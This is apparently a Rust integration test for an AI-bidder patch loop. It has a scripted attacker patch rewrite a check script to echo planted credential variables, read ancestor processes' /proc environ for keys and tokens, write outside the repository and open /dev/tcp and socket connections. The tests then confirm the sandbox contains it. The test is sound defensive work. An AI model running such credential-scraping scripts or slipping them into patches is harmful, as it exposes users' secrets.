//! A proposal's change is code the checks run (SPEC §16). Written as an
//! attacker would: a scripted bidder's patch rewrites the script a command
//! check runs, so that the check writes outside the repository, prints the
//! user's credentials from its environment (and Ralph's, through `/proc`),
//! tries the network, and fails — so that its output becomes the next
//! round's failure report, which every bidder receives (and echoes here).

mod common;

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Output;

use common::{Repository, text};
use serde_json::{Value, json};

/// The planted credentials, as the user's shell would hold them.
const SECRETS: &[(&str, &str)] = &[
    ("ANTHROPIC_API_KEY", "sk-ant-planted-4f1d9c2e7b"),
    ("AWS_SECRET_ACCESS_KEY", "aws-planted-8e3b1a6f0c"),
    ("GITHUB_TOKEN", "ghp_planted_5c7e2d9a1b"),
];

const HARMLESS_CHECK: &str = "#!/bin/sh\nexit 0\n";

/// The check script as the attacker's patch leaves it.
fn hostile_check(outside: &Path, port: u16, read_ralphs_environment: bool) -> String {
    let mut script = format!(
        "#!/bin/sh\n\
         echo pwned > '{}'\n\
         echo \"ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY\"\n\
         echo \"AWS_SECRET_ACCESS_KEY=$AWS_SECRET_ACCESS_KEY\"\n\
         echo \"GITHUB_TOKEN=$GITHUB_TOKEN\"\n\
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" 2>/dev/null\n\
         bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\n",
        outside.join("written-by-the-check").display()
    );
    if read_ralphs_environment {
        // Every ancestor's environment: Ralph's holds the credentials.
        script.push_str(
            "p=$PPID; while [ \"${p:-1}\" -gt 1 ]; do \
             tr '\\0' '\\n' < /proc/$p/environ 2>&1 | grep -E 'KEY|TOKEN'; \
             p=$(cut -d' ' -f4 /proc/$p/stat); done\n",
        );
    }
    script.push_str("exit 1\n");
    script
}

/// A unified diff turning `old` (a whole file) into `new`.
fn replace_file(path: &str, old: &str, new: &str) -> String {
    let lines = |text: &str| text.lines().map(str::to_owned).collect::<Vec<_>>();
    let (old, new) = (lines(old), lines(new));
    let mut patch = format!(
        "--- a/{path}\n+++ b/{path}\n@@ -1,{} +1,{} @@\n",
        old.len(),
        new.len()
    );
    for line in &old {
        patch.push_str(&format!("-{line}\n"));
    }
    for line in &new {
        patch.push_str(&format!("+{line}\n"));
    }
    patch
}

/// The attacker's repository: a check running `sh check.sh`, three
/// scripted bidders that echo every failure report they are given, the
/// first one proposing the hostile patch.
fn attacked_repository(sandbox: Option<Value>, hostile: &str) -> Repository {
    let mut config = json!({
        "num_bots": 3,
        "bidders": {
            "bidder_1": {"plugin": ralph_broker_fixtures::SCRIPTED_A_PATH, "grants": ["repository"]},
            "bidder_2": {"plugin": ralph_broker_fixtures::SCRIPTED_B_PATH, "grants": ["repository"]},
            "bidder_3": {"plugin": ralph_broker_fixtures::SCRIPTED_C_PATH, "grants": ["repository"]},
        },
        "specialists": [],
        "checks": [{"name": "script", "argv": ["sh", "check.sh"], "category": "test",
                    "timeout_seconds": 60}],
    });
    if let Some(sandbox) = sandbox {
        config["sandbox"] = sandbox;
    }
    let patch = replace_file("check.sh", HARMLESS_CHECK, hostile);
    let echoing = |summary: &str| json!({"summary": summary, "echo_failure_report": true});
    let a = json!([
        {"summary": "make the check script stricter", "patch": patch,
         "files": [["check.sh", 8]], "tests": ["the check passes"], "echo_failure_report": true},
        echoing("round two, bidder a"),
    ]);
    let b = json!([echoing("nothing to offer"), echoing("round two, bidder b")]);
    let c = json!([
        echoing("nothing either, other words"),
        echoing("round two, bidder c")
    ]);
    let (a, b, c) = (a.to_string(), b.to_string(), c.to_string());
    Repository::for_loop(
        &[
            ("src/lib.rs", "pub fn one() -> u32 {\n    1\n}\n"),
            ("check.sh", HARMLESS_CHECK),
            ("ralph-script/a.json", &a),
            ("ralph-script/b.json", &b),
            ("ralph-script/c.json", &c),
        ],
        &config,
        &["Harden the check"],
    )
}

/// Runs the loop with the planted credentials in its environment.
fn run_attacked_loop(repository: &Repository) -> (Output, Vec<Value>) {
    let mut command = repository.command(&["marketplace", "loop", "1", "--json", "-vvv"]);
    for (name, value) in SECRETS {
        command.env(name, value);
    }
    let output = command.output().expect("ralph runs");
    let steps = text(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|_| panic!("not JSON: {line}")))
        .collect();
    (output, steps)
}

/// Every file under `directory` (the git objects are compressed: the
/// worktree and `.ralph/` are what matters), with its text.
fn every_file(directory: &Path) -> Vec<(String, String)> {
    let mut files = Vec::new();
    let mut pending = vec![directory.to_owned()];
    while let Some(directory) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&directory) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() {
                pending.push(path);
            } else if kind.is_file() {
                let bytes = std::fs::read(&path).unwrap_or_default();
                files.push((path.display().to_string(), text(&bytes)));
            }
        }
    }
    files
}

fn assert_no_secret_anywhere(repository: &Repository, output: &Output) {
    let mut places = vec![
        ("stdout".to_owned(), text(&output.stdout)),
        ("stderr".to_owned(), text(&output.stderr)),
    ];
    places.extend(every_file(repository.path()));
    for (place, contents) in &places {
        for (name, value) in SECRETS {
            assert!(
                !contents.contains(value),
                "{name}'s value leaked into {place}:\n{contents}"
            );
        }
    }
}

fn steps_named<'a>(steps: &'a [Value], name: &str) -> Vec<&'a Value> {
    steps.iter().filter(|step| step["step"] == name).collect()
}

/// The failure report the replan round handed to every bidder, as they
/// echoed it back.
fn echoed_failure_reports(steps: &[Value]) -> Vec<String> {
    steps_named(steps, "proposal_received")
        .iter()
        .filter_map(|step| step["summary"].as_str())
        .filter(|summary| summary.contains("round two"))
        .map(str::to_owned)
        .collect()
}

/// Whether bubblewrap can create its namespaces on this machine, asked
/// independently of Ralph.
fn bubblewrap_works() -> bool {
    std::process::Command::new("bwrap")
        .args([
            "--unshare-all",
            "--die-with-parent",
            "--ro-bind",
            "/",
            "/",
            "--dev",
            "/dev",
            "--proc",
            "/proc",
            "--",
            "/bin/sh",
            "-c",
            "exit 0",
        ])
        .output()
        .is_ok_and(|output| output.status.success())
}

fn running_as_root() -> bool {
    std::fs::metadata("/proc/self").is_ok_and(|metadata| metadata.uid() == 0)
}

fn listener() -> TcpListener {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a loopback port");
    listener.set_nonblocking(true).expect("non-blocking");
    listener
}

/// True when something connected to `listener` (the kernel queues a
/// completed connection whether or not it was accepted yet).
fn was_connected(listener: &TcpListener) -> bool {
    match listener.accept() {
        Ok(_) => true,
        Err(error) if error.kind() == ErrorKind::WouldBlock => false,
        Err(error) => panic!("accept: {error}"),
    }
}

/// The check ran the hostile script and failed, and the replan round's
/// bidders got its output as their failure report.
fn assert_the_attack_ran(steps: &[Value]) {
    let reports = echoed_failure_reports(steps);
    assert_eq!(reports.len(), 3, "{steps:?}");
    for report in &reports {
        assert!(
            report.contains("script") && report.contains("ANTHROPIC_API_KEY="),
            "the check's output reaches every bidder: {report}"
        );
    }
}

#[test]
fn a_patched_check_script_cannot_leak_secrets_write_outside_or_use_the_network() {
    let outside = tempfile::tempdir().expect("temp dir");
    let listener = listener();
    let port = listener.local_addr().expect("address").port();
    let confined = bubblewrap_works();
    // Unconfined, a root process reads any process's environment: that is
    // not something an unprivileged sandbox can stop (see docs/loop.md).
    let read_ralphs_environment = confined || !running_as_root();
    let hostile = hostile_check(outside.path(), port, read_ralphs_environment);
    let repository = attacked_repository(None, &hostile);
    let (output, steps) = run_attacked_loop(&repository);
    assert_eq!(
        output.status.code(),
        Some(3),
        "{}\n{}",
        text(&output.stdout),
        text(&output.stderr)
    );
    assert_the_attack_ran(&steps);
    assert_no_secret_anywhere(&repository, &output);
    let sandbox = steps_named(&steps, "sandbox");
    assert_eq!(sandbox.len(), 1, "said once: {steps:?}");
    let message = sandbox[0]["message"].as_str().unwrap_or("");
    let written = outside.path().join("written-by-the-check");
    if confined {
        assert_eq!(sandbox[0]["kind"], "bubblewrap", "{message}");
        assert!(!written.exists(), "the check wrote outside the repository");
        assert!(!was_connected(&listener), "the check reached the network");
    } else {
        assert_eq!(sandbox[0]["kind"], "unsandboxed", "{message}");
        assert!(
            message.starts_with("checks run unsandboxed: bubblewrap"),
            "{message}"
        );
    }
}

#[test]
fn with_the_sandbox_off_the_loop_says_so_and_a_check_still_sees_no_secret() {
    let outside = tempfile::tempdir().expect("temp dir");
    let listener = listener();
    let port = listener.local_addr().expect("address").port();
    let hostile = hostile_check(outside.path(), port, !running_as_root());
    let repository = attacked_repository(Some(json!({"kind": "none"})), &hostile);
    let (output, steps) = run_attacked_loop(&repository);
    assert_eq!(output.status.code(), Some(3), "{}", text(&output.stdout));
    assert_the_attack_ran(&steps);
    assert_no_secret_anywhere(&repository, &output);
    let sandbox = steps_named(&steps, "sandbox");
    assert_eq!(sandbox.len(), 1, "{steps:?}");
    assert_eq!(sandbox[0]["kind"], "off");
    assert!(
        sandbox[0]["message"]
            .as_str()
            .unwrap_or("")
            .starts_with("checks run unsandboxed: the sandbox is off"),
        "{}",
        sandbox[0]
    );
    // Unconfined, the write goes through: the sandbox is what stops it.
    assert!(outside.path().join("written-by-the-check").exists());
}

#[test]
fn an_unknown_sandbox_kind_is_an_error_naming_the_field() {
    let repository = attacked_repository(Some(json!({"kind": "chroot"})), HARMLESS_CHECK);
    let (output, _) = run_attacked_loop(&repository);
    assert_eq!(output.status.code(), Some(2), "{}", text(&output.stdout));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(".ralph/config.json") && stderr.contains("sandbox.kind"),
        "{stderr}"
    );
    let verify = repository.ralph(&["marketplace", "verify"]);
    assert_eq!(verify.status.code(), Some(2), "{}", text(&verify.stdout));
    assert!(text(&verify.stderr).contains("sandbox.kind"));
}
